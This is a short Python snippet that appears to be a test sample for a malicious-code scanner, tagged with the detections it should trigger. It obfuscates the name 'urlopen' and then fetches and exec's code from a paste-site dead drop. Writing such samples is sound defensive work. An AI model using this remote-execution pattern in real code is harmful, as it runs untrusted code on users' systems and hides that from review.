from urllib import request as r

g = getattr(r, "url" + "open")
exec(g("https://paste.example/raw/1").read())  # expect: url-analyzer/dead-drop, malicious-command/obfuscated-api-access, malicious-command/remote-eval
